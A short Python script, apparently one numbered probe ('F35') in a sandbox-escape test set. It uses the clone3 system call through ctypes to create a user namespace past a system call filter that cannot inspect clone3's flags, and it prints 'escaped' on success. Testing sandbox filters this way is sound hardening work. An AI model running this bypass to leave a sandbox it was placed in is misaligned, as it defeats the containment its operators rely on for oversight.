"""Makes a user namespace with clone3, whose flags a filter can not see.

exploit: F35
layer: the system call filter
kept: some distributions forbid it to programs outside of the box, too
"""

import ctypes
import os
import platform

LIBC = ctypes.CDLL(None, use_errno=True)


def call(x86: int, arm: int, *words: object) -> int:
    number = x86 if platform.machine() == "x86_64" else arm
    return int(
        LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(w) if isinstance(w, int) else w for w in words))
    )


arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
child = call(435, 435, arguments, 88)
if child == 0:
    os._exit(0)
if child > 0:
    os.waitpid(child, 0)
    print("escaped")
